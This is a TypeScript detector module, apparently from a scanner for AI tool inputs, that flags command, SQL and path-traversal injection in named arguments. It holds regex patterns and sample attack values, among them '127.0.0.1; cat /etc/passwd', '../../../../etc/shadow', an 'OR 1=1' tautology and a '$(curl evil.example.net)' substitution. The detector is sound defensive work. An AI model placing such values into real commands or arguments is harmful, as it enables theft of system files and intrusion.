import type { Detector } from '../finding.ts'

/** Members that name a file, take SQL, or are put into a command by many servers. */
const fileNames =
  /^(?:file|path|filename|file_?path|dir(?:ectory)?|folder|source|destination|src|dst|target)$/i
const shellNames =
  /^(?:host|hostname|ip|address|domain|branch|ref|repo|package|file|path|filename|file_?path|name|url|user|username|args?|flag|option)s?$/i
const sqlNames =
  /^(?:id|user|username|name|email|where|filter|order_?by|sort|table|column|search|term|value)$/i
/** Members that are meant to hold commands, code or queries: nothing there is out of place. */
const meant =
  /(?:command|cmd|script|code|query|sql|shell|content|body|text|message|prompt|patch|diff|expression|pattern|regex|description|comment)$/i

const traversal =
  /(?:^|[\\/])\.\.[\\/](?:[^\n]{0,80}[\\/])?(?:etc|root|home|windows|proc|\.ssh|\.\.)(?:[\\/]|$)|%2e%2e(?:%2f|\/)|\0/g
const shell =
  /[;&|`]\s{0,4}(?:cat|curl|wget|nc|bash|sh|rm|id|whoami|ls|ping|python3?|perl|touch|sleep|powershell|cmd)\b|\$\([a-z/][^)\n]{0,200}\)|`[a-z/][^`\n]{0,200}`/g
const sql =
  /'\s{0,4}(?:or|and)\s{1,4}['"\d][^\n]{0,40}=|;\s{0,4}(?:drop|delete|insert|update|alter|truncate)\s{1,4}(?:table|from|into|database)\b|\bunion\s{1,4}(?:all\s{1,4})?select\b|'\s{0,4};?\s{0,4}--/g

/** Arguments whose member says what they are: commands in a host name, quotes in an id, `..` in a path. */
export const argumentInjection: Detector = {
  id: 'argument-injection',
  scanner: 'commands',
  category: 'command-injection',
  kinds: ['tool_input'],
  alone: false,
  reason: 'An argument holds a command, a query or a path that does not belong in such an argument.',
  rules: [
    { pattern: traversal, weight: 0.8, under: (name) => fileNames.test(name) && !meant.test(name) },
    { pattern: shell, weight: 0.8, under: (name) => shellNames.test(name) && !meant.test(name) },
    { pattern: sql, weight: 0.75, under: (name) => sqlNames.test(name) && !meant.test(name) },
  ],
  gate: undefined,
  most: 4,
  caught: [
    { name: 'host', text: '127.0.0.1; cat /etc/passwd' },
    { name: 'path', text: '../../../../etc/shadow' },
    { name: 'username', text: "x' OR '1'='1" },
    { name: 'branch', text: 'main$(curl evil.example.net)' },
  ],
  spared: [
    { name: 'query', text: 'SELECT * FROM a UNION SELECT * FROM b' },
    { name: 'command', text: 'make; ls' },
    { name: 'path', text: '../shared/readme.md' },
    { name: 'name', text: "Conan O'Brien and Sons" },
  ],
}
